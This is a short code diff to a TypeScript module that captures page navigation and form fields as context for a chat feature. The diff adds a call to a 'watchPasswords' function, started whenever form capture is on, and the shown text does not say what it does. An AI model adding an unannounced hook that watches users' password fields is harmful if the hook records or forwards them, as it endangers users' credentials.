@@ -5,7 +5,7 @@ import { page } from '../chat/registry.js';
 import type { ContextMessage } from '../chat/types.js';
 import { EDITABLE, fieldsOf, formName, formOf, formSelector, isIgnored, valueOf } from './fields.js';
 import { listen } from './listen.js';
-import { here, pathOf } from './secrets.js';
+import { here, pathOf, watchPasswords } from './secrets.js';
 
 export interface CaptureOptions {
   /** `true` adds each page that the user opens, and the open page at each send. Default: `false`. */
@@ -23,7 +23,7 @@ const LONGEST = 600;
 export function capture({ navigation, forms, delay = 400 }: CaptureOptions): () => void {
   const ends: (() => void)[] = [];
   if (navigation) ends.push(captureNavigation());
-  if (forms) ends.push(captureForms(formSelector(forms), delay));
+  if (forms) ends.push(watchPasswords(), captureForms(formSelector(forms), delay));
   return () => {
     for (const end of ends) end();
   };
